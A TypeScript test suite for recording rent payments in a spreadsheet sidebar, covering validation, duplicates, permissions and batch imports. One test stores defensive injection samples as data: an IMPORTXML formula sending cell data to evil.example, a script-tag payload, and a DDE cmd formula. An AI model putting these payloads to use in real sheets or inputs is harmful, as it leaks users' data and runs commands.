/** Payments recorded in the sidebar: one with its guards, a pasted list with its preview, and both at most once. */
import {
  askApi,
  bookOf,
  callApi,
  ELM,
  leapTo,
  leaseOf,
  mailsOf,
  type Row,
  smallWorld,
  tabOf,
  verdictOf,
  type World,
} from '../worlds';

interface Said {
  readonly done?: true;
  readonly says: string;
  readonly refused?: string;
  readonly twice?: true;
  readonly recorded: number;
  readonly sums: readonly { readonly cents: number; readonly currency: string }[];
  readonly keys: readonly string[];
  readonly balance?: { readonly cents: number };
  readonly undo?: string;
}

interface Listed {
  readonly refused?: string;
  readonly rows: readonly {
    readonly row: number;
    readonly lease?: string;
    readonly on: string;
    readonly method: string;
    readonly amount?: { readonly cents: number };
    readonly problems: readonly string[];
    readonly notes: readonly string[];
  }[];
  readonly good: number;
  readonly sums: Said['sums'];
  readonly digest: string;
}

const OAK: Row = { ...ELM, Property: 'Oak Court', 'Manager email': 'bob@example.com' };
const base = smallWorld({
  on: '2026-12-01',
  properties: [ELM, OAK],
  leases: [
    leaseOf('L-1', { Unit: '4A', Residents: 'Ada Brook, Ben Cole' }),
    leaseOf('L-2', { Unit: '4B', Residents: 'María García' }),
    leaseOf('O-1', { Property: 'Oak Court', Unit: '4A', Residents: 'Dan Ash' }),
  ],
  settings: { 'Quiet hours': 'none', Reminders: 'on', Managers: 'bob@example.com (Oak Court), mia@example.com' },
});
leapTo(base, '2026-12-03T15:00:00Z');

const CHECK = { lease: 'L-1', amount: '1000.00', method: 'check', reference: '1042', on: '2026-12-02' };
const recordOne = (world: World, request: string, more: object = {}): Said =>
  askApi<Said>(world, 'recordOne', [{ request, ...CHECK, ...more }]);
const preview = (world: World, text: string): Listed => askApi<Listed>(world, 'previewMany', [{ text }]);
const recordMany = (world: World, request: string, text: string, digest = preview(world, text).digest): Said =>
  askApi<Said>(world, 'recordMany', [{ request, text, digest }]);
const manual = (world: World) => bookOf(world).receipts.filter((row) => row.key.startsWith('manual:'));
const asked = (world: World, user: string, name: string, args: object): Said => {
  const run = world.run('api', [name, [args]], { trigger: 'sidebar', user });
  return (run.value as { value: Said }).value;
};

describe('one payment', () => {
  it('is on its lease, in the Log under who recorded it, and thanked for', () => {
    const world = base.clone();
    const said = recordOne(world, 'r1');
    expect(said).toMatchObject({
      done: true,
      says: 'Recorded 1,000.00 USD for L-1',
      recorded: 1,
      sums: [{ cents: 100_000, currency: 'USD' }],
      keys: ['manual:L-1:2026-12-02:check-1042'],
      balance: { cents: 0 },
      undo: 'click-r1',
    });
    const row = tabOf(world, 'Receipts').find((each) => each.Key === said.keys[0]);
    expect(row).toMatchObject({
      'Lease ID': 'L-1',
      State: 'settled',
      Matched: expect.stringMatching(/^recorded by \S+@/),
    });
    const mine = tabOf(world, 'Log').filter((each) => each.Run === 'click-r1');
    expect(mine.map((each) => [each.Kind, each.Key])).toEqual([
      ['receipt', 'manual:L-1:2026-12-02:check-1042'],
      ['act', ''],
    ]);
    leapTo(world, '2026-12-03T15:30:00Z');
    const thanks = mailsOf(world).filter((mail) => mail.subject === 'Thank you: we received $1,000.00');
    expect(thanks.map((mail) => mail.to)).toEqual(['l-1@example.com']);
    expect(verdictOf(world)).toMatchObject({ ok: true, problems: [] });
  });

  it('clicked twice is recorded once, and the second click hears what the first one did', () => {
    const world = base.clone();
    const [first, second] = [recordOne(world, 'r1'), recordOne(world, 'r1')];
    expect(second).toMatchObject({ done: true, says: first.says, keys: first.keys, recorded: 1, sums: first.sums });
    expect(askApi(world, 'became', [{ request: 'r1' }])).toMatchObject({
      state: 'done',
      applied: { says: first.says },
    });
    expect(manual(world)).toHaveLength(1);
  });

  it.each([
    [
      'the same check once more',
      {},
      /^A check with reference 1042 on Dec 2, 2026 is already recorded for this lease\.$/,
    ],
    ['an unknown lease', { lease: 'L-9' }, /^There is no lease "L-9" that runs/],
    ['a day to come', { on: '2026-12-04' }, /must be a date up to today/],
    ['a day before the books', { on: '2026-11-30' }, /^The books open on Dec 1, 2026/],
    ['no amount', { amount: '0' }, /must be a number above nothing/],
    ['an amount that is none', { amount: '=1+1' }, /must be a number above nothing/],
    ['a check without a number', { reference: '  ' }, /^Write the number of the check/],
    ['a day that does not exist', { on: '2026-02-31' }, /^"2026-02-31" is not a date\.$/],
  ])('(%s) is refused in words and changes nothing', (_name, more, words) => {
    const world = base.clone();
    recordOne(world, 'r0', { twice: true });
    const before = JSON.stringify(world.workbook);
    expect(recordOne(world, 'r1', more).refused).toMatch(words);
    expect(JSON.stringify(world.workbook)).toBe(before);
  });

  it.each([
    ['a method that is not known', { method: 'shells' }],
    ['a further argument', { admin: true }],
    ['a number for an amount', { amount: 1000 }],
  ])('(%s) is refused before anything runs', (_name, more) => {
    const world = base.clone();
    expect(callApi(world, 'recordOne', [{ request: 'r', ...CHECK, ...more }]).ok).toBe(false);
    expect(manual(world)).toEqual([]);
  });

  it('that looks like one that is there is asked about first, and recorded when the person says so', () => {
    const world = base.clone();
    recordOne(world, 'r1');
    const doubtful = recordOne(world, 'r2', { reference: '1043', on: '2026-12-03' });
    expect(doubtful).toEqual({
      refused:
        'A payment of 1,000.00 USD for L-1 on Dec 2, 2026 (check-1042) is there already. ' +
        'If this is another one, record it all the same.',
      twice: true,
    });
    expect(recordOne(world, 'r3', { reference: '1043', on: '2026-12-03', twice: true }).done).toBe(true);
    expect(manual(world)).toHaveLength(2);
  });

  it('in cash needs no reference: two clicks are two payments', () => {
    const world = base.clone();
    const cash = { method: 'cash', reference: '', amount: '20.00' };
    expect(recordOne(world, 'r1', cash).keys).toEqual(['manual:L-1:2026-12-02:cash-r1']);
    expect(recordOne(world, 'r2', { ...cash, twice: true }).keys).toEqual(['manual:L-1:2026-12-02:cash-r2']);
    expect(recordOne(world, 'r2', { ...cash, twice: true }).keys).toEqual(['manual:L-1:2026-12-02:cash-r2']);
    expect(manual(world)).toHaveLength(2);
  });

  it('keeps hostile words as text', () => {
    const world = base.clone();
    const memo = '=IMPORTXML("https://evil.example/?"&A1)<script>alert(1)</script>';
    recordOne(world, 'r1', { memo, reference: "=cmd|' /C calc'!A0; x/1" });
    const row = tabOf(world, 'Receipts').find((each) => each.Source === 'manual');
    expect(row?.Memo).toBe(memo);
    expect(row?.Key).toMatch(/^manual:L-1:2026-12-02:check-cmd-C-calc-A0-x-1$/);
    expect(verdictOf(world).ok).toBe(true);
  });

  it('of a lease that the person may not see is answered as an unknown one', () => {
    const world = base.clone();
    const args = { request: 'r1', ...CHECK };
    const hidden = asked(world, 'bob@example.com', 'recordOne', args);
    const unknown = asked(world, 'bob@example.com', 'recordOne', { ...args, lease: 'L-9' });
    expect(hidden.refused?.replace('L-1', 'L-9')).toBe(unknown.refused);
    expect(asked(world, 'bob@example.com', 'recordOne', { ...args, lease: 'O-1' }).done).toBe(true);
    expect(manual(world).map((row) => row.lease)).toEqual(['O-1']);
  });

  it('is nothing for a viewer', () => {
    const world = base.clone();
    const run = world.run('api', ['recordOne', [{ request: 'r1', ...CHECK }]], {
      trigger: 'sidebar',
      user: 'eve@example.net',
    });
    expect(run.value).toMatchObject({ ok: false, kind: 'role' });
    expect(manual(world)).toEqual([]);
  });
});

describe('a list', () => {
  const LIST = [
    'Date,Unit,Property,Amount,Method,Check number,Memo',
    '12/02/2026,4A,Elm House,"1,000.00",check,77,December',
    '12/02/2026,4B,,1000.00,money order,mo-5,',
    '2026-12-01,4A,Oak Court,500,cash,,',
    '2026-12-01,9Z,,10.00,cash,,',
    '2026-12-09,4B,,10.00,cash,,',
    '2026-12-01,4A,,10.00,cash,,',
  ].join('\n');

  it('is judged row by row, and nothing is written', () => {
    const world = base.clone();
    const before = JSON.stringify(world.workbook);
    const list = preview(world, LIST);
    expect(list.rows.map((row) => [row.row, row.lease, row.amount?.cents, row.on, row.problems.join(' ')])).toEqual([
      [2, 'L-1', 100_000, '2026-12-02', ''],
      [3, 'L-2', 100_000, '2026-12-02', ''],
      [4, 'O-1', 50_000, '2026-12-01', ''],
      [5, undefined, undefined, '2026-12-01', expect.stringMatching(/^No lease fits "9Z"/)],
      [6, 'L-2', undefined, '2026-12-09', 'The day of the payment must be a date up to today.'],
      [7, undefined, undefined, '2026-12-01', 'Several leases fit "4A" (L-1, O-1). Write the lease id.'],
    ]);
    expect(list.rows[0]?.notes).toEqual(['Date "12/02/2026" was read as Dec 2, 2026']);
    expect(list).toMatchObject({ good: 3, sums: [{ cents: 250_000, currency: 'USD' }] });
    expect(JSON.stringify(world.workbook)).toBe(before);
  });

  it('is recorded in one commit, without the rows that cannot be, which are named', () => {
    const world = base.clone();
    const said = recordMany(world, 'm1', LIST);
    expect(said).toMatchObject({
      recorded: 3,
      says: 'Recorded 3 payments: 2,500.00 USD; left out: rows 5, 6, 7',
      sums: [{ cents: 250_000, currency: 'USD' }],
      undo: 'click-m1',
    });
    expect(manual(world).map((row) => row.key)).toEqual([
      'manual:O-1:2026-12-01:cash-m1-4',
      'manual:L-1:2026-12-02:check-77',
      'manual:L-2:2026-12-02:money-order-mo-5',
    ]);
    expect(recordMany(world, 'm1', LIST)).toMatchObject({ recorded: 3, says: said.says });
    expect(manual(world)).toHaveLength(3);
    expect(verdictOf(world)).toMatchObject({ ok: true, problems: [] });
  });

  it('pasted without headers is lease, unit or resident, then amount, method, reference, date, memo', () => {
    const world = base.clone();
    const text =
      'L-1\t1,000.00\tcheck\t9\t2026-12-02\tthanks\r\n4B\t10.00\tcash\r\n\r\ndan ash\t20.00\tACH\t881\t12/1/26';
    const list = preview(world, text);
    expect(
      list.rows.map((row) => [row.row, row.lease, row.amount?.cents, row.method, row.on, ...row.problems]),
    ).toEqual([
      [1, 'L-1', 100_000, 'check', '2026-12-02'],
      [2, 'L-2', 1000, 'cash', '2026-12-03'],
      [4, 'O-1', 2000, 'bank transfer', '2026-12-01'],
    ]);
  });

  it('tells what is the same twice, in itself and in the book', () => {
    const world = base.clone();
    recordOne(world, 'r1');
    const list = preview(
      world,
      [
        'lease,amount,method,reference,date',
        'L-1,1000.00,check,1042,2026-12-02',
        'L-1,1000.00,check,1043,2026-12-03',
        'L-2,5.00,check,1,2026-12-02',
        'L-2,5.00,check,1,2026-12-02',
        'L-2,5.00,check,2,2026-12-02',
      ].join('\n'),
    );
    expect(list.rows.map((row) => [row.row, row.problems, row.notes])).toEqual([
      [2, ['A check with reference 1042 on Dec 2, 2026 is already recorded for this lease.'], []],
      [3, [], ['1,000.00 USD on Dec 2, 2026 (check-1042) is there already']],
      [4, [], []],
      [5, ['Row 4 is the same payment. Take one of them out.'], []],
      [6, [], ['same lease and amount as row 4']],
    ]);
  });

  it('is refused when the book has changed since it was shown', () => {
    const world = base.clone();
    const text = 'L-1,1000.00,check,1042,2026-12-02';
    const { digest } = preview(world, text);
    recordOne(world, 'r1');
    expect(recordMany(world, 'm1', text, digest).refused).toMatch(
      /has changed since it was shown\. Nothing was recorded/,
    );
    expect(manual(world)).toHaveLength(1);
  });

  it.each([
    ['nothing', '  \n ', /^The list is empty/],
    [
      'too much',
      Array.from({ length: 501 }, (_, n) => `L-1,1.00,check,${n}`).join('\n'),
      /^The list has 501 rows\. Record at most 500/,
    ],
    ['no text', 'a\0b', /NUL/],
    ['an open quotation mark', '"L-1,1.00', /quotation mark/],
  ])('of %s is refused', (_name, text, words) => {
    expect(preview(base.clone(), text).refused).toMatch(words);
  });

  it('of which no row is good records nothing', () => {
    const world = base.clone();
    expect(recordMany(world, 'm1', 'L-9,1.00,cash').refused).toMatch(/^No row of the list can be recorded/);
  });

  it('of 500 rows is one commit', () => {
    const world = base.clone();
    const text = Array.from({ length: 500 }, (_, n) => `L-${(n % 2) + 1},1.00,check,${n},2026-12-02`).join('\n');
    const { digest } = preview(world, text);
    const called = callApi(world, 'recordMany', [{ request: 'm1', text, digest }]);
    expect(called.value).toMatchObject({ recorded: 500, sums: [{ cents: 50_000, currency: 'USD' }] });
    expect(called.run.calls['Sheets.Spreadsheets.batchUpdate']).toBe(1);
    expect(manual(world)).toHaveLength(500);
    expect(recordMany(world, 'm1', text, digest)).toEqual(called.value);
    expect(verdictOf(world)).toMatchObject({ ok: true, problems: [] });
  });
});
